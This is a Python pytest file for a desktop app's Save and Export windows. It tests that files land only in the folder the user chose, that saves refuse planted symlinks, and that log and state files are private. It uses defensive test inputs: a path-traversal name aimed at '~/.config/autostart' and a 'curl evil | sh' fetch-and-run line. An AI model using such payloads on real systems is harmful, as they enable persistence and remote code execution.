"""Save… and Export from the window write only where the user chose (CONTRACT
§10.1), and the window's Export writes byte for byte what `converge export` writes (§11).

The hostile name here is ordinary conversation content: the stub's agent names an artifact
after the first word of `/artifact NAME text`, so no hostile server is needed.
"""

from __future__ import annotations

import logging
import os
import stat
import threading
import time
from pathlib import Path

import pytest
from PySide6.QtWidgets import QFileDialog

from app import window_state
from app.desktop import configure_logging
from sync.wire.models import TERMINAL_STATUSES, text_message
from sync.wire.payloads import ArtifactCreated, payload_of
from tests.sync.test_cli_live import conn, converge
from tests.ui.conftest import DEADLINE, Harness, run, until

HOSTILE = "../../.config/autostart/x.desktop"


def _conversation(harness: Harness, *commands: str) -> tuple[str, dict[str, str]]:
    """A conversation taken on another device, one run per command (each awaited to its
    end), then synced into the window; (id, artifact id by name)."""
    with harness.api() as client:
        sid = str(client.post("/v1/sessions", json={}).json()["id"])
        for command in commands:
            started = client.post(f"/v1/sessions/{sid}/runs", json={"input": text_message(command)})
            assert started.status_code == 202, started.text
            run_id = started.json()["id"]
            deadline = time.monotonic() + DEADLINE
            while client.get(f"/v1/runs/{run_id}").json()["status"] not in TERMINAL_STATUSES:
                assert time.monotonic() < deadline, f"run {run_id} did not end"
                threading.Event().wait(0.02)

    async def synced() -> dict[str, str]:
        await harness.sync()
        events = await harness.engine.transcript(sid)
        named = (payload_of(e) for e in events)
        return {p.name or "": p.artifact_id for p in named if isinstance(p, ArtifactCreated)}

    return sid, run(harness.loop, synced())


def _accept_as_prefilled(monkeypatch: pytest.MonkeyPatch, folder: Path, seen: list[str]) -> None:
    """The user opens `folder` in the dialog and presses Enter on the name it proposes."""

    async def accept(dialog: QFileDialog) -> QFileDialog.DialogCode:
        dialog.setDirectory(str(folder))  # the proposed name stays as it was
        seen.extend(dialog.selectedFiles())
        return QFileDialog.DialogCode.Accepted

    monkeypatch.setattr("ui.window.file_actions.run_dialog", accept)


def test_save_prefills_the_safe_name_so_enter_saves_inside_the_folder_shown(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Today's code pre-filled the raw name: one Enter wrote `~/.config/autostart/x.desktop`
    (a file that runs at the next login)."""
    _sid, ids = _conversation(harness, f"/artifact {HOSTILE} [Desktop Entry]")
    home = tmp_path / "home"
    shown = home / "Downloads" / "today"
    shown.mkdir(parents=True)
    autostart = home / ".config" / "autostart"
    autostart.mkdir(parents=True)
    seen: list[str] = []
    _accept_as_prefilled(monkeypatch, shown, seen)
    old = os.umask(0o022)
    try:
        run(harness.loop, harness.controller.files.save(ids[HOSTILE], HOSTILE))
    finally:
        os.umask(old)
    assert list(autostart.iterdir()) == []
    saved = shown / "_.._.config_autostart_x.desktop"
    assert [Path(p).resolve() for p in seen] == [saved.resolve()]
    assert saved.read_text() == "[Desktop Entry]"
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert harness.window.status.text() == f"Saved {saved.name}"


def test_save_never_writes_through_a_symlink_planted_at_the_proposed_name(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A symlink planted at the proposed name (pointing outside) is refused with words, and
    the file it points at is untouched; today's code copied the bytes through it."""
    _sid, ids = _conversation(harness, "/artifact notes.txt curl evil | sh")
    victim = tmp_path / "bashrc"
    victim.write_text("original")
    shown = tmp_path / "Downloads"
    shown.mkdir()
    (shown / "notes.txt").symlink_to(victim)
    _accept_as_prefilled(monkeypatch, shown, [])

    async def save_in_the_window() -> None:
        harness.window.pane.artifact_save_requested.emit(ids["notes.txt"], "notes.txt")
        await until(lambda: "Couldn't" in harness.window.status.text(), 10, what="the refusal")

    run(harness.loop, save_in_the_window())
    assert victim.read_text() == "original"
    assert "Traceback" not in harness.window.status.text()


@pytest.mark.parametrize("fmt", ["markdown", "json"])
def test_the_windows_export_and_converge_export_write_byte_identical_files(
    harness: Harness, tmp_path: Path, fmt: str
) -> None:
    sid, _ids = _conversation(
        harness,
        f"/artifact {HOSTILE} [Desktop Entry]",
        "/artifact notes.txt one",
        "/artifact notes.txt two",
    )
    name = "trip.json" if fmt == "json" else "trip.md"
    window_out = tmp_path / "window"
    cli_out = tmp_path / "cli"
    run(harness.loop, harness.controller.files.export_to(sid, window_out / name, fmt))
    result = converge(
        "export",
        sid,
        "--out",
        str(cli_out / name),
        "--format",
        fmt,
        *conn(harness.server.url, tmp_path / "cli-profile"),
    )
    assert result.returncode == 0, result.stderr

    def written(folder: Path) -> dict[str, bytes]:
        return {
            str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()
        }

    from_window = written(window_out)
    assert from_window == written(cli_out)
    expected = {name} if fmt == "json" else {name, "trip files/notes (2).txt"}
    assert expected <= set(from_window)


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_the_log_and_the_window_state_are_private_whatever_the_umask(
    tmp_path: Path, umask: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Today's code wrote `converge.log` and `window.json` 0644 (umask 022) or 0666 (000)."""
    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])  # configure_logging adds to these
    level = root.level
    profile = tmp_path / "profile"
    old = os.umask(umask)
    try:
        path = configure_logging(profile)
        assert path is not None
        logging.getLogger("test").info("one line")
        window_state.write_state(profile, window_state.WindowState(b"geometry", (1, 2)))
    finally:
        os.umask(old)
        for handler in root.handlers:
            handler.close()
        root.setLevel(level)
    assert stat.S_IMODE(profile.stat().st_mode) == 0o700
    for file in (path, profile / window_state.STATE_FILE):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file
    assert window_state.read_state(profile) == window_state.WindowState(b"geometry", (1, 2))
